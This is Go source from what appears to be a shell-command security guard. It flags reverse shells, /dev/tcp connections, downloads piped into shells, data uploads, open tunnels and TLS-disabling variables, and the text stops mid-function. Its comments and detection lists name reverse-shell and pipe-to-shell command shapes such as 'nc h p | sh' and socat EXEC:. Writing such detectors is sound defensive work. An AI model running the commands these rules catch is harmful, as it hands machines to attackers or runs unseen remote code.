package policy

import (
	"cmp"
	"github.com/guarded-sh/guarded-sh/lexer"

	"path"
	"slices"
	"strconv"
	"strings"
)

// The net family refuses remote code and reverse shells in posix
// commands (PowerShell and cmd have their own files):
//
//   - net.dev-tcp: /dev/tcp/… and /dev/udp/… as a redirection target (of
//     any command, compound ones included), anywhere in the code of an
//     interpreter or awk, or in an argument of anything but a command
//     that only shows text (echo, printf, grep, git) where shell code
//     would open it (devNetOpened; a query's LIKE '%/dev/tcp/%' is data); a
//     redirection to a /dev/ path built at run time; zsh's ztcp.
//   - net.reverse-shell: nc/ncat/netcat with -e/-c/--exec/--sh-exec,
//     socat with EXEC:/SYSTEM:, a shell whose input or output is a network
//     tool (nc h p | sh, mkfifo … | sh -i | nc h p, telnet | sh), a shell
//     with its streams on /dev/tcp, interpreter one-liners combining a
//     socket with process execution, gawk's /inet/ files.
//   - net.pipe-shell: a download (curl, wget, …) reaching a shell or an
//     interpreter as its code: piped (directly or through tee, base64 -d,
//     …), as a process substitution (bash <(curl …), source <(curl …)), as
//     a -c string (sh -c "$(curl …)", python -c "$(curl …)"), through eval,
//     or through a variable assigned from a download earlier in the input.
//     A download saved to a file passes (curl -fsSL URL -o install.sh), and
//     so does running that file afterwards: it can be read first.

// fetches reports whether c downloads what a URL names: a downloader
// (roleDownloads),
// one of PowerShell's web cmdlets (roleWebCmdlet), or a command whose spec
// names the file it downloads into (fetchSpec: Start-BitsTransfer
// -Destination).
func fetches(c *Command) bool {
	if does(c, c.Name, roleDownloads) || does(c, c.Name, roleWebCmdlet) {
		return true
	}
	s, _ := fetchSpec(c)
	return s != nil && len(s.extra().writesOpts) > 0
}

// devTCP builds a net.dev-tcp finding.
func devTCP(c *Command) Finding {
	return finding("net.dev-tcp", c, "it opens a network connection through bash's /dev/tcp or /dev/udp, the signature of a reverse shell that security monitors alert on", "to probe a port use `nc -z -w 3 HOST PORT` or `curl -sS -m 5 http://HOST:PORT/`")
}

// reverseShell builds a net.reverse-shell finding.
func reverseShell(c *Command, what string) Finding {
	return finding("net.reverse-shell", c, "it "+what+", which hands a shell to the network (a reverse or bind shell)", "to test a port use `nc -z -w 3 HOST PORT`; to work on a remote machine use `ssh HOST`")
}

// pipeShell builds a net.pipe-shell finding.
func pipeShell(c *Command, what string) Finding {
	// Name the program the download was fed to: nvm's installer needs
	// bash, poetry's is Python.
	run, file := "sh", "install.sh"
	if c != nil {
		switch name := c.Name; {
		case name == "bash" || name == "zsh" || name == "dash" || name == "ksh" || name == "mksh":
			run = name
		default:
			if l, ok := progLangs.get(interpLang(name)); ok && l.ext != "" {
				run, file = name, "install."+l.ext // python3 install.py
			}
		}
		if len(c.Wrappers) > 0 && c.Wrappers[0] == "sudo" {
			run = "sudo " + run
		}
	}
	return finding("net.pipe-shell", c, "it "+what+": code from the network would run unseen",
		"save it to a file, read it, then run it: `curl -fsSL https://example.com/"+file+" -o "+file+"`, then `cat "+file+"`, then `"+run+" "+file+"`")
}

func isDevNet(s string) bool {
	return strings.Contains(s, "/dev/tcp/") || strings.Contains(s, "/dev/udp/")
}

// netCommand applies the net rules to a posix command.
func netCommand(ctx *Context, c *Command) []Finding {
	if f := tlsOffEnv(c); f != nil {
		return []Finding{*f}
	}
	if f := exfilOf(ctx, c); f != nil {
		return []Finding{*f}
	}
	if f := codeUpload(ctx, c); f != nil {
		return []Finding{*f}
	}

	if remoteProgram(c) {
		return []Finding{pipeShell(c, "runs "+c.Word0.Value+", a program fetched from the network as it starts")}
	}
	if u := remoteCodeArg(c); u != "" {
		return []Finding{pipeShell(c, "runs code from "+u+", fetched from another machine as it starts")}
	}
	if u := remoteModule(c); u != "" {
		return []Finding{pipeShell(c, "loads "+u+", a module fetched from the network as it starts, before its own code")}
	}
	if u := installsFile(c, bareSystemPackage); u != "" {
		return []Finding{pipeShell(c, "installs "+u+", a system package fetched from a bare address no name vouches for, whose install scripts run as root")}
	}
	if u, ok := dropUpload(c); ok {
		return []Finding{finding("net.exfil", c, "it uploads data to "+u+", a paste or drop site, request catcher or chat webhook, where it is public or someone else's at once",
			"keep the data on this machine; to share a result, print it and let a human decide where it goes")}
	}
	if what := servedData(ctx, c); what != "" {
		return []Finding{finding("net.exfil", c, "it serves "+what+" to whoever connects: the user's files and credentials can be read from the network",
			"serve only the directory the task needs, inside the project (`python3 -m http.server -d ./dist`), bound to this machine (--bind 127.0.0.1)")}
	}
	if opts := openServer(c); opts != "" {
		return []Finding{finding("net.tunnel", c, "it serves "+c.Name+" on every network interface with its login switched off ("+opts+"): anyone who reaches this machine runs what it runs",
			"listen on this machine only (--ip=127.0.0.1 or --host 127.0.0.1) and keep the login on")}
	}
	if to := socatRelay(c); to != "" {
		return []Finding{finding("net.tunnel", c, "it listens on every interface and hands each connection to "+to+": whoever reaches this machine reaches that service through it",
			"bind the listener to this machine (TCP-LISTEN:PORT,bind=127.0.0.1,fork), or reach the service with ssh -L")}
	}
	if ports := worldIngress(c); ports != "" {
		return []Finding{ingressFinding(c, ports)}
	}
	if o := remoteAccessJoin(c); o != "" {
		return []Finding{finding("net.tunnel", c, c.Name+" joins a network with "+o+": whoever runs that network reaches this machine, its shell included",
			"leave joining networks and opening remote access to a human; to reach another machine, connect outward (ssh HOST)")}
	}
	if unit := tunnelService(c); unit != "" {
		look := "systemctl status " + unit
		switch {
		case c.Grammar == lexer.PowerShell:
			look = "Get-Service " + unit
		case c.Grammar == lexer.Cmd:
			look = "sc query " + unit
		case c.Name == "launchctl":
			look = "launchctl list"
		case c.Name == "brew":
			look = "brew services list"
		}
		return []Finding{finding("net.tunnel", c, "it starts "+unit+", a tunnel's service, which serves what its configuration names (a local port, this machine's remote access) to the internet, at every boot once enabled",
			"leave running a tunnel to a human; to look, ask for its state (`"+look+"`)")}
	}
	if spec := reverseForward(c); spec != "" {
		return []Finding{finding("net.tunnel", c, "it forwards "+spec+": a port of the other end reaches this machine's remote access or its whole network (a SOCKS proxy), for whoever reaches that port",
			"forward only a dev server's port (R:8080:localhost:3000), or reach the other machine outward with ssh -L")}
	}
	if !c.Grammar.IsPosix() {
		// A program PowerShell or cmd starts (not a cmdlet) handed a
		// download as its code or its prompt: node -e (irm URL), goose
		// run -t (iwr URL).Content, as node -e "$(curl URL)" is.
		if n := winNative(c); n != nil {
			if what := pipeShellOf(ctx, n); what != "" {
				return []Finding{pipeShell(c, what)}
			}
		}
		return nil
	}
	var out []Finding
	if what := reverseShellOf(c); what != "" {
		out = append(out, reverseShell(c, what))
	}
	if what := pipeShellOf(ctx, c); what != "" {
		out = append(out, pipeShell(c, what))
	}
	if devNetOf(c) {
		out = append(out, devTCP(c))
	}
	return out
}

// remoteProgram reports whether the program a launcher runs is a URL
// (deno run https://…/x.ts, uv run https://…/x.py, npx https://…/x.tgz):
// the launcher fetches the code and runs it unseen, as curl | sh does.
// A URL handed to an opener (cmd's start, Start-Process, open, xdg-open)
// goes to the handler of its scheme, the browser, which runs nothing.
func remoteProgram(c *Command) bool {
	v := strings.ToLower(c.Word0.Value)
	if len(c.Wrappers) == 0 || !strings.HasPrefix(v, "http://") && !strings.HasPrefix(v, "https://") && !strings.HasPrefix(v, "ftp://") {
		return false
	}
	inner := strings.TrimSuffix(strings.ToLower(c.Wrappers[len(c.Wrappers)-1]), ".exe")
	return !nameDoes(inner, roleOpensURL)
}

// devNetOf reports whether c opens /dev/tcp or /dev/udp.
func devNetOf(c *Command) bool {
	for _, r := range c.Redirs {
		if isDevNet(r.Target.Value) {
			return true
		}
		if strings.HasPrefix(r.Target.Value, "/dev/") && !r.Target.Literal && strings.Contains(r.Target.Value[len("/dev/"):], "/") {
			return true // /dev/$proto/host/port
		}
	}
	if c.Name == "ztcp" || c.Name == "zmodload" && contains(c.Values(), "zsh/net/tcp") {
		return true
	}
	if does(c, c.Name, roleTextOnly) || c.Name == "eval" {
		return false // eval's string is analysed on its own
	}
	var code *Word
	if isPosixShell(c.Name) {
		_, code = shellReadsStdin(c) // a -c string is analysed on its own
	}
	// An interpreter's or awk's code may build the redirection from
	// parts ("bash -i >& " + "/dev/tcp/…"): any mention there counts.
	coded := isShell(c, c.Name) || does(c, c.Name, roleProgWord)
	for i, a := range c.Args {
		if isDevNet(a.Value) && (code == nil || &c.Args[i] != code) && (coded || devNetOpened.get().MatchString(a.Value)) {
			return true
		}
	}
	return isDevNet(c.Word0.Value)
}

// devNetOpened matches /dev/tcp or /dev/udp where shell code given as a
// word opens it: a redirection's target (>& /dev/tcp/…, 3<>"/dev/udp/…"),
// a variable's value for a later one (t=/dev/tcp/…), or the word itself.
// Only the shell opens these paths, in a redirection; a program handed
// one as a file gets "no such file", and inside other text (a query's
// LIKE '%/dev/tcp/%', a log message) it is data.
var devNetOpened = &lazyRegexp{expr: `(^|[<>&=]\s*["']?|^["']?)/dev/(tcp|udp)/`}

// isShell reports whether name, c's name or a form of it, is a shell or
// an interpreter that can run code it reads.
func isShell(c *Command, name string) bool {
	if _, ok := shellGrammar(name); ok {
		return true
	}
	switch name {
	case "pwsh", "powershell", "source", ".", "tclsh", "wish", "osascript", "busybox":
		return true
	}
	return foreignShells.has(name) || interpLang(name) != "" || startsShell(c, name)
}

// programText returns the words of c, awk or sed, that are its program
// or name its program's file: programWords' program and the values of
// its spec's fileOpts (-f FILE, --file=FILE).
func programText(c *Command) []Word {
	s := textProgSpec(c.Name)
	progs, _ := programWords(s, c.Args)
	for _, o := range parseArgs(s, c.Args).opts {
		if o.hasValue && s.extra().fileOpts.has(o.name) {
			progs = append(progs, Word{Value: o.value, Literal: o.literal, Subst: o.subst})
		}
	}
	return progs
}

// isPosixShell reports whether name is a posix-family shell.
func isPosixShell(name string) bool {
	_, ok := shellGrammar(name)
	return ok || foreignShells.has(name)
}

// runnerRegistered returns the server a CI runner's registration names
// (its --url), "" when c registers none: GitHub's config.sh or config.cmd
// given a token (not remove, not --help), gitlab-runner, act_runner and
// forgejo-runner register.
func runnerRegistered(c *Command) string {
	url, token, register := "", false, strings.HasPrefix(c.Name, "config.") // config.sh registers; the others by their register
	for i, a := range c.Args {
		v := a.Value
		switch {
		case v == "--help" || v == "-h" || v == "--check" || v == "remove":
			return ""
		case v == "register":
			register = true
		case (v == "--url" || v == "-u") && i+1 < len(c.Args):
			url = c.Args[i+1].Value
		case strings.HasPrefix(v, "--url="):
			url = v[len("--url="):]
		case v == "--token" || v == "--pat" || v == "--registration-token" || v == "-r" || v == "-t" ||
			strings.HasPrefix(v, "--token=") || strings.HasPrefix(v, "--registration-token="):
			token = true
		}
	}
	if url == "" || !register || strings.HasPrefix(c.Name, "config.") && !token {
		return ""
	}
	return url
}

// shareSpec reads tmate's (tmux's) options that take a value, sshx's
// and tty-share's.
var shareSpec = spec{value: "cfLSTk", long: "--args --command --listen --logfile --name --server --shell --uselocalcert"}

// reverseShellOf says how c hands a shell to the network, or "".
func reverseShellOf(c *Command) string {
	var v []string // the values, for the programs read by them
	switch c.Name {
	case "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "cryptcat", "socat", "ttyd", "gotty", "awk", "gawk":
		v = c.Values()
	}
	switch c.Name {
	case "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "cryptcat":
		for _, a := range v {
			if a == "--exec" || a == "--sh-exec" || a == "--lua-exec" || strings.HasPrefix(a, "--exec=") || strings.HasPrefix(a, "--sh-exec=") {
				return "runs a program for the connection (" + c.Name + " " + a + ")"
			}
			if len(a) > 1 && a[0] == '-' && a[1] != '-' && strings.ContainsAny(a[1:], "ec") {
				return "runs a program for the connection (" + c.Name + " " + a + ")"
			}
		}
	case "socat":
		for _, a := range v {
			u := strings.ToUpper(a)
			if strings.HasPrefix(u, "EXEC:") || strings.HasPrefix(u, "SYSTEM:") || strings.Contains(u, ",EXEC:") {
				return "connects a program to a socket (socat " + a + ")"
			}
		}
	case "rcat", "pwncat", "pwncat-cs":
		return "runs " + c.Name
	case "ttyd", "gotty":
		// Web terminals: the command they are given runs for every
		// browser that connects.
		for _, a := range v {
			if isShell(c, path.Base(a)) {
				return "serves " + a + " to every browser that connects (" + c.Name + ")"
			}
		}
	case "tmate", "sshx", "tty-share":
		// Terminal sharing through a relay: tmate starting a session
		// (no command, new, new-session), sshx, tty-share --public hand
		// the shell to whoever has the link the relay gives; tmate's
		// other commands (display, wait) act on a session already
		// started.
		p := parseArgs(&shareSpec, c.Args)
		if p.has("-h", "--help", "-V", "--version") || c.Name == "tty-share" && !p.has("--public") {
			break
		}
		if c.Name != "tmate" || len(p.operands) == 0 || p.operands[0].Value == "new" || p.operands[0].Value == "new-session" {
			return "shares this machine's shell through " + c.Name + "'s relay with whoever has the session's link"
		}
	case "config.sh", "config.cmd", "gitlab-runner", "gitlab-runner.exe", "act_runner", "forgejo-runner":
		// A self-hosted CI runner registered (GitHub's actions-runner
		// config.sh --url URL --token T, gitlab-runner register): every
		// job the server at URL sends, from whoever can push a workflow
		// there, runs on this machine.
		if url := runnerRegistered(c); url != "" {
			return "registers this machine as a self-hosted CI runner of " + url + ", whose jobs then run here"
		}
	case "awk", "gawk":
		for _, a := range v {
			if strings.Contains(a, "/inet/tcp/") || strings.Contains(a, "/inet/udp/") || strings.Contains(a, "/inet4/") || strings.Contains(a, "/inet6/") {
				return "opens a network connection from gawk (/inet/…)"
			}
		}
	}
	if lang, code, ok := interpCode(c); ok && socketExec(lang, code) {
		return "opens a socket and runs a process from " + c.Name
	}
	name, args := inner(c) // once for both questions: each peels every wrapper
	if isPosixShell(name) {
		for _, r := range c.Redirs {
			if isDevNet(r.Target.Value) {
				return "runs a shell with its streams on " + r.Target.Value
			}
		}
		// A shell reading from the network: nc h p | sh, telnet | sh.
		if reads, _ := shellReadsStdin(c); reads {
			if f := chainHas(c.Feeds, c, isNetTool); f != nil {
				return "runs what " + f.Name + " receives from the network in a shell"
			}
		}
	}
	// A network tool reading an interactive shell: sh -i 2>&1 | nc h p.
	if isNetName(name, args) {
		if f := chainHas(c.Feeds, nil, func(x *Command) bool { name, _ := inner(x); return isPosixShell(name) }); f != nil {
			return "sends a shell's output to the network (" + strings.TrimSpace(f.Text) + " | " + c.Name + ")"
		}
	}
	return ""
}

// isNetTool reports whether the command behind c's wrappers talks to the
// network.
func isNetTool(c *Command) bool {
	return isNetName(inner(c))
}

// isNetName reports whether the command name with args, behind any
// wrappers, talks to the network.
func isNetName(name string, args []Word) bool {
	if name == "openssl" {
		return len(args) > 0 && args[0].Value == "s_client"
	}
	return nameDoes(name, roleRawNet)
}

// inner returns the name and arguments of the command behind c's
// wrappers (timeout 5 nice curl … gives curl): a pipeline's feed is the
// outermost command.
func inner(c *Command) (string, []Word) {
	x := innerCommand(c)
	return x.Name, x.Args
}

// innerCommand returns the command behind c's wrappers (sudo docker logs
// api gives docker logs api), c itself behind none.
func innerCommand(c *Command) *Command {
	x := c
	for i := 0; i < 8; i++ {
		words, how := peel(x)
		if how == "" || len(words) == 0 {
			break
		}
		x = &Command{Grammar: c.Grammar}
		x.setName(words)
	}
	return x
}

// printerOf returns the command whose output f, a command feeding
// another, prints: f's own behind its wrappers (sudo, timeout), or, for
// ssh HOST CMD…, the command run on the host, whose output ssh prints
// here (ssh prod journalctl | grep password reads the remote logs as
// journalctl | grep password does). The remote words are read as the
// remote shell splits them (ssh prod 'journalctl -u app' | grep token);
// code with its own pipes or lists there is carried code, judged whole.
func printerOf(f *Command) *Command {
	x := innerCommand(f)
	args, ok := sshArgs(x)
	if !ok {
		return x
	}
	words := sshRemote(args)
	if len(words) == 0 {
		return x
	}
	if j := joinWords(words); j.Literal && !strings.ContainsAny(j.Value, "|;&<>()$`\\\"'") {
		words = words[:0:0]
		for w := range strings.FieldsSeq(j.Value) {
			words = append(words, Word{Value: w, Literal: true})
		}
	}
	r := &Command{Grammar: lexer.Bash} // the host's shell, whatever runs ssh here
	r.setName(words)
	return innerCommand(r)
}

// socketExec reports whether interpreter code opens a socket and runs a
// process: the one-liner reverse shells of python, perl, ruby, php, node.
func socketExec(lang, code string) bool {
	l := strings.ToLower(code)
	sock := strings.Contains(l, "socket") || strings.Contains(l, "fsockopen") || strings.Contains(l, "require('net')") ||
		strings.Contains(l, `require("net")`) || strings.Contains(l, "net.connect") || strings.Contains(l, "tcpsocket")
	if !sock {
		return false
	}
	for _, x := range []string{"subprocess", "pty.spawn", "exec", "dup2", "fdopen", "child_process", "/bin/sh", "/bin/bash", "system(", "popen", "spawn", "proc_open", "shell_exec", "passthru", "`"} {
		if strings.Contains(l, x) {
			return true
		}
	}
	return perlSystem.get().MatchString(l) // system$_ while<>: each line read from the socket run
}

// perlSystem matches perl's system called without parentheses.
var perlSystem = &lazyRegexp{expr: `\bsystem\s*[$@'"]`}

// shellReadsStdin reports whether the shell or interpreter c reads its
// code from standard input, and the word it reads its code from otherwise
// (a script operand, a -c string, source's file).
func shellReadsStdin(c *Command) (bool, *Word) {
	if s := shellStarter(c); s != nil && s.extra().stdinShell {
		// A login shell, a group's or a recorded session: it reads its
		// standard input unless it is given the command, as -c's text
		// (su -c CMD) or, for sg, the words after its group (sg GROUP
		// CMD runs CMD through sh -c).
		if s.extra().reader == readSg {
			if w := sgCommand(c); w != nil {
				return false, w
			}
			return true, nil
		}
		if code, given := startedShell(c, s); given {
			return false, code
		}
		return true, nil
	}
	if c.Is("source", ".") {
		if len(c.Args) == 0 {
			return false, nil
		}
		w := &c.Args[0]
		return isStdinPath(w.Value), w
	}
	if c.Name == "busybox" {
		return false, nil
	}
	if c.Is("pwsh", "powershell", "pwsh.exe", "powershell.exe") {
		// pwsh -ExecutionPolicy Bypass, pwsh -NoProfile: no command and
		// no file, so the commands on its standard input.
		switch mode, code := psShellArgs(c.Args); mode {
		case "stdin":
			return true, nil
		case "file":
			if code.Value == "" {
				return false, nil
			}
			return false, &code
		default:
			return false, &code
		}
	}
	if s, args := interpSpecOf(c); s != nil {
		return interpReadsStdin(s, args)
	}
	for i := 0; i < len(c.Args); i++ {
		a := c.Args[i]
		v := a.Value
		if v == "-" {
			return true, nil
		}
		if v == "--" {
			if i+1 < len(c.Args) {
				w := &c.Args[i+1]
				return isStdinPath(w.Value), w
			}
			return true, nil
		}
		if strings.HasPrefix(v, "-") || strings.HasPrefix(v, "+") {
			// A posix shell's options.
			if v == "-o" || v == "+o" || v == "-O" || v == "+O" || v == "--rcfile" || v == "--init-file" {
				i++
				continue
			}
			if !strings.HasPrefix(v, "--") && strings.ContainsRune(v[1:], 's') {
				return true, nil
			}
			if !strings.HasPrefix(v, "--") && strings.ContainsRune(v[1:], 'c') {
				if i+1 < len(c.Args) {
					return false, &c.Args[i+1]
				}
				return false, nil
			}
			continue
		}
		return isStdinPath(v), &c.Args[i]
	}
	return true, nil
}

// interpReadsStdin is shellReadsStdin of an interpreter, its words args
// read through its spec s (interpSpecOf): its code is the value of a
// code option (python -c, perl -e; a library only named at run time,
// ruby -r "$x", is code too), its code operand (deno eval CODE), or its
// program file; with neither, or with -, its standard input. A module it
// runs (python -m) is neither.
func interpReadsStdin(s *spec, args []Word) (bool, *Word) {
	p := parseArgs(s, args)
	if stdinRunner(s, p) != "" {
		return true, nil // python3 -c 'os.system(sys.stdin.read())': its standard input is code it runs (stdincode.go)
	}
	if s.codeArg && len(p.operands) > 0 {
		return false, &args[len(args)-len(p.operands)]
	}
	for _, o := range p.opts {
		if o.hasValue && (s.codeOpts.has(o.name) || s.extra().libOpts.has(o.name) && !o.literal) {
			return false, &Word{Value: o.value, Literal: o.literal, Subst: o.subst}
		}
	}
	if p.hasAny(s.extra().modOpts) {
		return false, nil
	}
	ops := programOperands(s, args, p)
	if len(ops) == 0 {
		return true, nil
	}
	w := &ops[0]
	return isStdinPath(w.Value), w
}

// programOperands returns the words of c's arguments args from its
// program file on, read through an interpreter's spec s (parsed as p):
// the options come first (optsFirst), and its runVerb (bun run F) and
// the options after it are passed over.
func programOperands(s *spec, args []Word, p parsed) []Word {
	ops := args[len(args)-len(p.operands):]
	if s.extra().runVerb != "" && len(ops) > 0 && ops[0].Value == s.extra().runVerb {
		ops = ops[1:]
		for len(ops) > 0 && strings.HasPrefix(ops[0].Value, "-") && !isStdinPath(ops[0].Value) {
			ops = ops[1:] // bun run --bun F, deno run -A -
		}
	}
	return ops
}

func isStdinPath(p string) bool {
	return p == "-" || p == "/dev/stdin" || p == "/dev/fd/0" || p == "/proc/self/fd/0"
}

// pipeShellOf says how c runs downloaded code, or "".
func pipeShellOf(ctx *Context, c *Command) string {
	if !mayRunDownload(c) {
		return ""
	}
	tainted := taintedVars(ctx)
	downloads := ctx.feedWalk("net.download", func() func(*Command) bool {
		return func(x *Command) bool {
			if name, _ := inner(x); does(x, name, roleDownloads) || netSource(x) {
				return true
			}
			if x.Grammar == lexer.PowerShell && psDownload(x, 12) {
				return true // (iwr URL).Content, (irm URL): this command's own fetch (depth 12: its feeds are downloads.first's to walk)
			}
			if len(tainted) > 0 && x.Is("echo", "printf", "cat") {
				for _, a := range x.Args {
					if refsAny(a.Value, tainted) {
						return true
					}
				}
			}
			return false
		}
	})
	fromWord := func(w *Word) *Command {
		if w == nil {
			return nil
		}
		for _, s := range w.Subst {
			if f := downloads.first([]*Command{s}, nil); f != nil {
				return f
			}
		}
		return nil
	}
	if c.Dynamic {
		if f := downloads.first(c.Feeds, c); f != nil {
			return "runs the output of " + f.Name + " as code"
		}
		if f := fromWord(&c.Word0); f != nil {
			return "runs the output of " + f.Name + " as code"
		}
		if refsAny(c.Word0.Value, tainted) {
			return "runs code from a variable assigned from a download"
		}
		return ""
	}
	if c.Name == "eval" {
		for i := range c.Args {
			if f := fromWord(&c.Args[i]); f != nil {
				return "evaluates the output of " + f.Name
			}
		}
		return ""
	}
	if agentCLI(c.Name) {
		// A prompt fetched from the network: its instructions run as the
		// agent's own, commands included (goose run -t "$(curl …)").
		for i := range c.Args {
			if f := fromWord(&c.Args[i]); f != nil {
				return "hands the output of " + f.Name + " to " + c.Name + " as its instructions"
			}
		}
		if f := downloads.first(c.Feeds, c); f != nil {
			return "pipes the output of " + f.Name + " to " + c.Name + " as its instructions"
		}
	}
	if does(c, c.Name, roleProgWord) {
		// awk "$(curl …)", sed -e "$(wget -qO- …)", gawk -f <(curl …):
		// a program that is the download as a whole (awk's system() and
		// sed's e command run shell commands). A download spliced into a
		// script written out (sed "s/V/$(curl …)/") or read as data stays
		// the data it reads as.
		for _, a := range programText(c) {
			v := strings.TrimSpace(a.Value)
			whole := strings.HasPrefix(v, "$(") || strings.HasPrefix(v, "<(") || strings.HasPrefix(v, "`") || strings.HasPrefix(v, "(")
			if len(a.Subst) == 1 && whole {
				if f := fromWord(&a); f != nil {
					return "runs the output of " + f.Name + " as " + c.Name + "'s program"
				}
			}
			if isStdinPath(v) {
				if f := downloads.first(c.Feeds, c); f != nil {
					return "pipes the output of " + f.Name + " into " + c.Name + " as its program (-f -)"
				}
			}
		}
		if awkRunsInput(c) || sedRunsInput(c) {
			// … | awk '{system($0)}', … | sed e: the program runs each
			// line it reads as a command (inputcmds.go).
			if f := downloads.first(c.Feeds, c); f != nil {
				return "pipes the output of " + f.Name + " into " + c.Name + ", whose program runs each line it reads as a command"
			}
		}
	}
	if does(c, c.Name, roleStdinLater) || jobFromStdin(c) {
		// at and batch run the shell code on their standard input, as a
		// batch scheduler given no job script does.
		if f := downloads.first(c.Feeds, c); f != nil {
			return "pipes the output of " + f.Name + " into " + c.Name + ", which runs it as shell code"
		}
	}
	if len(c.Wrappers) > 0 && c.Word0.Literal && isStdinPath(c.Word0.Value) {
		// uv run -, deno run -: the launcher runs its standard input as
		// the program.
		if f := downloads.first(c.Feeds, c); f != nil {
			return "pipes the output of " + f.Name + " into " + c.Wrappers[len(c.Wrappers)-1] + " " + c.Word0.Value + ", which runs it as its program"
		}
	}
	if !isShell(c, c.Name) {
		return ""
	}
	stdin, code := shellReadsStdin(c)
	if code != nil && code.Value == "-" {
		stdin, code = true, nil // pwsh -c -, deno run -: the code is standard input
	}
	if f := fromWord(code); f != nil {
		return "runs the output of " + f.Name + " in " + c.Name
	}
	if code != nil && refsAny(code.Value, tainted) && c.Name != "source" && c.Name != "." {
		return "runs code from a variable assigned from a download in " + c.Name
	}
	inWords := map[*Command]bool{}
	for _, a := range c.Args {
		for _, s := range a.Subst {
			inWords[s] = true
		}
	}
	var pipe []*Command
	for _, f := range c.Feeds {
		if !inWords[f] {
			pipe = append(pipe, f)
		}
	}
	// Code only known at run time reading a download on stdin:
	// curl … | xargs sh -c, curl … | sh -c "$(cat)".
	if !stdin && code != nil && code.Literal && isPosixShell(c.Name) && !shellCommandString(c, code) {
		// curl … | bash ./setup.sh, LESSOPEN='|curl … | sh %s': the
		// script's commands read the download, and one read into a
		// shell (. /dev/stdin, eval "$(cat)") runs it; the guard reads
		// no script's use of its input.
		if f := downloads.first(pipe, c); f != nil {
			return "pipes the output of " + f.Name + " into " + c.Name + " running " + code.Value + ", whose commands read it as they run"
		}
	}
	if !stdin && (code == nil || code.Literal) {
		return ""
	}
	if f := downloads.first(pipe, c); f != nil {
		return "pipes the output of " + f.Name + " into " + c.Name
	}
	for _, r := range c.Redirs {
		if r.Op == "<<<" || r.Op == "<" {
			if f := fromWord(&r.Target); f != nil {
				return "feeds the output of " + f.Name + " to " + c.Name
			}
			if r.Op == "<<<" && refsAny(r.Target.Value, tainted) {
				return "feeds a variable assigned from a download to " + c.Name
			}
		}
	}
	return ""
}

// shellCommandString reports whether code, the word a posix shell c runs,
// is a -c command string rather than a script's file: a short option
// cluster holding c comes before it.
func shellCommandString(c *Command, code *Word) bool {
	for i := range c.Args {
		a := c.Args[i].Value
		if &c.Args[i] == code || a == "--" {
			return false
		}
		if len(a) > 1 && a[0] == '-' && a[1] != '-' && strings.ContainsRune(a[1:], 'c') {
			return true
		}
	}
	return false
}

// taintedVars returns the variables the input assigns from a download:
// x=$(curl -s URL).
func taintedVars(ctx *Context) []string {
	if ctx == nil || ctx.Input == nil {
		return nil
	}
	return ctx.memo("net.tainted", func(whole *Context) any { return findTainted(whole) }).([]string)
}

func findTainted(ctx *Context) []string {
	var dl []*Command
	for _, c := range ctx.Input.Commands {
		if does(c, c.Name, roleDownloads) {
			dl = append(dl, c)
		}
	}
	if len(dl) == 0 {
		return nil
	}
	var out []string
	for _, c := range ctx.Input.Commands {
		// while read l: the variables read from a download's output.
		if c.Name == "read" && downloadIn(c.Feeds, map[*Command]bool{}, 0) {
			for _, a := range c.Args {
				if !strings.HasPrefix(a.Value, "-") && isName([]byte(a.Value)) {
					out = append(out, a.Value)
				}
			}
		}
		for _, as := range c.Assigns {
			name, val, _ := strings.Cut(as, "=")
			for _, d := range dl {
				if d.Text != "" && strings.Contains(val, strings.TrimSpace(d.Text)) {
					out = append(out, name)
					break
				}
			}
		}
		if c.Is("read", "readarray", "mapfile") && chainHas(c.Feeds, c, func(x *Command) bool { return does(x, x.Name, roleDownloads) }) != nil {
			for _, a := range c.Args {
				if isName([]byte(a.Value)) {
					out = append(out, a.Value)
				}
			}
		}
	}
	return out
}

// refsAny reports whether text expands one of the variables names.
func refsAny(text string, names []string) bool {
	for _, n := range names {
		for _, ref := range []string{"$" + n, "${" + n} {
			i := strings.Index(text, ref)
			if i < 0 {
				continue
			}
			end := i + len(ref)
			if ref[1] == '{' || end == len(text) || !isWordByte(text[end]) {
				return true
			}
		}
	}
	return false
}

// tlsOffVar matches NAME=VALUE of an environment variable that switches
// TLS verification off for the programs that read it (Node, git,
// Python's urllib and requests, npm, yarn, pip, uv, Go, Bundler, conda).
var tlsOffVar = &lazyRegexp{expr: `^(NODE_TLS_REJECT_UNAUTHORIZED=0|GIT_SSL_NO_VERIFY=.+|PYTHONHTTPSVERIFY=0|(REQUESTS|CURL)_CA_BUNDLE=|(?i:npm_config_strict_ssl)=(false|0)|YARN_ENABLE_STRICT_SSL=(false|0)|YARN_STRICT_SSL=(false|0)|PIP_TRUSTED_HOST=.+|UV_INSECURE_HOST=.+|GOINSECURE=.+|GOFLAGS=.*-insecure.*|BUNDLE_SSL_VERIFY_MODE=0|CONDA_SSL_VERIFY=(false|no|0))$`}

// tlsOffEnv refuses a variable of tlsOffVar set for the rest of the
// session or for good: export, declare -x, setenv, cmd's set and setx,
// PowerShell's $env: and [Environment]::SetEnvironmentVariable. Written
// into a shell's startup file it is judged there as the code it is
// (writes.go). Given to one command (VAR=0 npm ci) it is that command's
// business, as git -c http.sslVerify=false is.
func tlsOffEnv(c *Command) *Finding {
	for _, s := range envSettings(c) {
		if tlsOffVar.get().MatchString(s) {
			name, _, _ := strings.Cut(s, "=")
			f := finding("net.tls-off", c, "setting "+name+" for the session or for good switches TLS verification off for every later download",
				"keep verification on; to trust a private certificate authority, name it (`NODE_EXTRA_CA_CERTS=./ca.pem`, `git config http.sslCAInfo ./ca.pem`)")
			return &f
		}
	}
	return nil
}

// envSettings returns NAME=VALUE of each environment variable c sets for
// the rest of the session or for good (not for one command: VAR=v cmd).
func envSettings(c *Command) []string {
	var out []string
	switch c.Name {
	case "export", "setenv", "set", "setx", "declare", "typeset":
		exports := func() bool { _, p := specRead(c); return p.has("-x") }
		if (c.Name == "declare" || c.Name == "typeset") && !exports() ||
			(c.Name == "set" || c.Name == "setx") && !isWin(c.Grammar) || c.Name == "setenv" && !c.Grammar.IsPosix() {
			return nil
		}
		var ops []Word
		for _, a := range c.Args {
			if !strings.HasPrefix(a.Value, "-") && !strings.HasPrefix(a.Value, "/") {
				ops = append(ops, a)
			}
		}
		if c.Name == "setenv" || c.Name == "setx" {
			// setenv NAME VALUE, setx NAME VALUE
			if len(ops) > 0 && !strings.Contains(ops[0].Value, "=") {
				v := ""
				if len(ops) > 1 {
					v = ops[1].Value
				}
				return []string{ops[0].Value + "=" + v}
			}
		}
		for _, a := range ops {
			out = append(out, a.Value)
